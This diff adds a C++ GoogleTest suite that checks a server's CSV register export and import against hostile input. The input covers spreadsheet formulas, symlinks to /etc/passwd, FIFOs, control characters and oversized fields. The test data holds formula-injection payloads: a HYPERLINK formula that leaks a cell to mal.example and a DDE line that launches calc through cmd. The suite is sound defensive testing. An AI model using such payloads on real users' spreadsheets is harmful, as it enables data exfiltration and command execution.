@@ -1,0 +1,196 @@
+// Register files (--export / --import) handed to a spreadsheet or prepared by a hostile user:
+// formulas neutralised and read back as typed, nothing but the folder's own regular files
+// read, no other file's text in a fault, control characters refused, reading bounded.
+#include <QDir>
+#include <QFile>
+#include <QRegularExpression>
+#include <QTemporaryDir>
+#include <gtest/gtest.h>
+#include <functional>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "server/migrations/migrations.h"
+#include "server/registers/csv_file.h"
+#include "server/registers/register_export.h"
+#include "server/registers/register_import.h"
+#include "server/registers/spreadsheet_guard.h"
+#include "server/storage/database.h"
+
+using namespace cot::server;
+using namespace cot::server::registers;
+
+namespace {
+
+// Values a hostile user types into a name or a text, and texts that merely look like them.
+const QStringList kTricky{"=HYPERLINK(\"http://mal.example/?\"&A1;\"Clique\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=",
+                          "-", "'", "''", "'abc", "'=1+1", "''-x", "'@", "a=b", "Ação; \"citação\"", "", " =1"};
+const QStringList kTrickyLines{"\t=1", "\r\n=cmd|' /C calc'!A0", "'\tx", "linha 1\n\tlinha 2"};
+
+template <size_t N>
+QByteArray raw(const char (&text)[N]) {
+    return QByteArray(text, N - 1);  // NULs included
+}
+
+class RegisterFiles : public ::testing::Test {
+protected:
+    std::unique_ptr<Database> openDb(const char* name) {
+        auto db = Database::open("sqlite:" + dir_.filePath(name));
+        migrate(*db);
+        return db;
+    }
+    QString folder(const char* name) {
+        const QString path = dir_.filePath(name);
+        QDir().mkpath(path);
+        return path;
+    }
+    static void write(const QString& path, const QByteArray& text) {
+        QFile f(path);
+        ASSERT_TRUE(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
+        ASSERT_EQ(f.write(text), text.size());
+    }
+    static qint64 bytesReadByProcess() {
+        QFile io("/proc/self/io");
+        if (!io.open(QIODevice::ReadOnly)) return -1;
+        for (const QByteArray& line : io.readAll().split('\n'))
+            if (line.startsWith("rchar:")) return line.mid(6).trimmed().toLongLong();
+        return -1;
+    }
+
+    QTemporaryDir dir_;
+};
+
+TEST_F(RegisterFiles, GuardWritesOneQuoteMoreOnlyBeforeWhatASpreadsheetTakesForAFormula) {
+    const QList<std::pair<QString, QString>> cases{{"=1", "'=1"},   {"-5", "'-5"},   {"'=1", "''=1"}, {"''@", "'''@"},
+                                                   {"\tx", "'\tx"}, {"'abc", "'abc"}, {"'", "'"},     {"a-b", "a-b"}};
+    for (const auto& [text, written] : cases) {
+        EXPECT_EQ(guardedText(text), written) << text.toStdString();
+        EXPECT_EQ(unguardedText(written), text) << written.toStdString();
+    }
+}
+
+TEST_F(RegisterFiles, FormulasAreNeutralisedOnExportAndReadBackExactly) {
+    auto source = openDb("origem.db");
+    source->exec("INSERT INTO IDIOMA (IDIDIOMA, NMIDIOMA) VALUES ('POR', 'Português')");
+    for (int i = 0; i < kTricky.size(); ++i)
+        source->exec("INSERT INTO CLIENTE (CDCLIENTE, NRINSJURCLIE, IDTPIJURCLIE, NMFANTCLIE, NMRAZSOCCLIE) "
+                     "VALUES (:K, '1', 'F', :N, :N)",
+                     {{"K", QStringLiteral("C%1").arg(i, 2, 10, QChar('0'))}, {"N", kTricky[i]}});
+    const QStringList texts = kTricky + kTrickyLines;
+    for (int i = 0; i < texts.size(); ++i)
+        source->exec("INSERT INTO PADTXT (CDPADTXT, IDTIPOPROPFAS, IDIDIOMA, NRORDEMPADTXT, TXPADTXT) "
+                     "VALUES (:K, 'M', 'POR', -5, :T)",
+                     {{"K", QStringLiteral("T%1").arg(i, 2, 10, QChar('0'))}, {"T", texts[i]}});
+    source->exec("INSERT INTO TIPOSERV (CDTIPOSERV, NMTIPOSERV, VRHORAPADR) VALUES ('001', '-Desconto', -12.5)");
+
+    const QString out = dir_.filePath("saida");
+    const ExportResult exported = exportRegisters(*source, out);
+    ASSERT_TRUE(exported.ok()) << exported.error.toStdString();
+    // No text field a spreadsheet would open as a formula; numbers stay numbers.
+    for (const char* name : {"cliente.csv", "padtxt.csv", "tiposerv.csv"}) {
+        QFile file(QDir(out).filePath(name));
+        ASSERT_TRUE(file.open(QIODevice::ReadOnly));
+        CsvReader reader(file);
+        CsvRecord record;
+        while (reader.next(record))
+            for (const CsvField& f : record.fields)
+                EXPECT_FALSE(f.text.contains(QRegularExpression("^[=+@\t\r]|^-(?![0-9.]+$)"))) << name << ": " << f.text.toStdString();
+        EXPECT_FALSE(reader.failed());
+    }
+    QFile services(QDir(out).filePath("tiposerv.csv"));
+    ASSERT_TRUE(services.open(QIODevice::ReadOnly));
+    const QByteArray servicesText = services.readAll();
+    EXPECT_TRUE(servicesText.contains("001;'-Desconto;") && servicesText.contains(";-12.5\n")) << servicesText.toStdString();
+
+    auto target = openDb("destino.db");
+    const ImportResult imported = importRegisters(*target, out);
+    ASSERT_TRUE(imported.ok()) << imported.errors.join('\n').toStdString();
+    for (int i = 0; i < kTricky.size(); ++i) {
+        const QVariantMap key{{"K", QStringLiteral("C%1").arg(i, 2, 10, QChar('0'))}};
+        EXPECT_EQ(target->scalar("SELECT NMFANTCLIE FROM CLIENTE WHERE CDCLIENTE = :K", key).toString(), kTricky[i]);
+        EXPECT_EQ(target->scalar("SELECT NMRAZSOCCLIE FROM CLIENTE WHERE CDCLIENTE = :K", key).toString(), kTricky[i]);
+    }
+    for (int i = 0; i < texts.size(); ++i)
+        EXPECT_EQ(target->scalar("SELECT TXPADTXT FROM PADTXT WHERE CDPADTXT = :K",
+                                 {{"K", QStringLiteral("T%1").arg(i, 2, 10, QChar('0'))}})
+                      .toString(),
+                  texts[i])
+            << i;
+    EXPECT_EQ(target->scalar("SELECT NRORDEMPADTXT FROM PADTXT WHERE CDPADTXT = 'T00'").toInt(), -5);
+}
+
+// A register's name that is not the folder's own regular file is refused unread, and a
+// faulty file's text never shows in the faults.
+TEST_F(RegisterFiles, OnlyTheFoldersOwnRegularFilesAreReadAndNoOtherTextShows) {
+    QFile passwd("/etc/passwd");
+    ASSERT_TRUE(passwd.open(QIODevice::ReadOnly));
+    const QByteArray passwdText = passwd.readAll();
+    const QString elsewhere = dir_.filePath("fora.csv");
+    write(elsewhere, "CDOPERADOR;NMOPERADOR\nHACK;Hack\n");
+    const QList<std::pair<const char*, std::function<void(const QString&)>>> cases{
+        {"link simbólico", [](const QString& p) { ASSERT_TRUE(QFile::link("/etc/passwd", p)); }},
+        {"pasta", [](const QString& p) { ASSERT_TRUE(QDir().mkdir(p)); }},
+        {"FIFO", [](const QString& p) { ASSERT_EQ(::mkfifo(QFile::encodeName(p).constData(), 0600), 0); }},
+        {"links físicos", [&](const QString& p) { ASSERT_EQ(::link(QFile::encodeName(elsewhere), QFile::encodeName(p)), 0); }},
+        {"coluna desconhecida", [&](const QString& p) { write(p, passwdText); }},
+    };
+    auto db = openDb("cot.db");
+    for (const auto& [expected, make] : cases) {
+        const QString in = folder(expected);
+        make(QDir(in).filePath("operador.csv"));
+        const ImportResult r = importRegisters(*db, in);
+        const QString all = r.errors.join('\n');
+        EXPECT_FALSE(r.ok()) << expected;
+        EXPECT_TRUE(all.startsWith("operador.csv:") && all.contains(QString::fromUtf8(expected))) << all.toStdString();
+        EXPECT_FALSE(all.contains("root") || all.contains("HACK")) << all.toStdString();
+    }
+    EXPECT_EQ(db->scalar("SELECT COUNT(*) FROM OPERADOR").toInt(), 0);
+
+    // A name that is no register is named in the fault, its control characters left out.
+    const QString odd = folder("nomes");
+    write(QDir(odd).filePath("\x1b]0;x\a.csv"), "CDOPERADOR;NMOPERADOR\n");
+    const ImportResult r = importRegisters(*db, odd);
+    ASSERT_EQ(r.errors.size(), 1);
+    EXPECT_TRUE(r.errors[0].startsWith("?]0;x?.csv: não é um arquivo de cadastro")) << r.errors[0].toStdString();
+}
+
+TEST_F(RegisterFiles, ControlCharactersAreRefusedInNamesAndTheRefusedTextIsNotRepeated) {
+    const QList<std::tuple<const char*, QByteArray, const char*>> cases{
+        {"operador.csv", raw("CDOPERADOR;NMOPERADOR\nMARIA;\"Ma\0segredo\"\n"), "NMOPERADOR: caractere nulo (NUL) no texto"},
+        {"operador.csv", "CDOPERADOR;NMOPERADOR\nMARIA;\"Ma\nria\"\n", "NMOPERADOR: caractere de controle U+000A no texto (nomes e códigos não aceitam tabulação nem quebra de linha)"},
+        {"operador.csv", "CDOPERADOR;NMOPERADOR\nMA\tRIA;Maria\n", "CDOPERADOR: caractere de controle U+0009 no texto (nomes e códigos não aceitam tabulação nem quebra de linha)"},
+        {"operador.csv", "CDOPERADOR;NMOPERADOR;IDOPERATIVO\nMARIA;Maria;Z\n", "IDOPERATIVO: valor inválido (use A, I)"},
+        {"padtxt.csv", raw("CDPADTXT;IDTIPOPROPFAS;IDIDIOMA;TXPADTXT\nT;M;POR;\"a\0segredo\"\n"), "TXPADTXT: caractere nulo (NUL) no texto"},
+    };
+    auto db = openDb("cot.db");
+    db->exec("INSERT INTO IDIOMA (IDIDIOMA, NMIDIOMA) VALUES ('POR', 'Português')");
+    for (const auto& [file, text, expected] : cases) {
+        const QString in = folder("controle");
+        write(QDir(in).filePath(file), text);
+        const ImportResult r = importRegisters(*db, in);
+        EXPECT_EQ(r.errors, QStringList{QString(file) + ":2: " + QString::fromUtf8(expected)}) << r.errors.join('\n').toStdString();
+        EXPECT_FALSE(r.errors.join('\n').contains("segredo"));
+        QFile::remove(QDir(in).filePath(file));
+    }
+    EXPECT_EQ(db->scalar("SELECT COUNT(*) FROM OPERADOR").toInt(), 0);
+}
+
+// A 50 MB field (a sparse file: nothing written to disk) is refused a little past its
+// column's size, the rest of the file never read.
+TEST_F(RegisterFiles, AHugeFieldStopsTheReadingOfItsFileALittlePastItsColumn) {
+    const QString in = folder("grande");
+    const QString path = QDir(in).filePath("operador.csv");
+    write(path, "CDOPERADOR;NMOPERADOR\nMARIA;Maria\nJOSE;");
+    ASSERT_EQ(::truncate(QFile::encodeName(path).constData(), 50 << 20), 0);
+    auto db = openDb("cot.db");
+    const qint64 before = bytesReadByProcess();
+    const ImportResult r = importRegisters(*db, in);
+    const qint64 read = bytesReadByProcess() - before;
+    EXPECT_EQ(r.errors, QStringList{"operador.csv:3: NMOPERADOR: campo com mais de 1041 caracteres; o resto do arquivo não foi lido"});
+    EXPECT_EQ(db->scalar("SELECT COUNT(*) FROM OPERADOR").toInt(), 0);
+    if (before >= 0) {
+        EXPECT_LT(read, 4 << 20) << "the file was read on";
+    }
+}
+
+}  // namespace
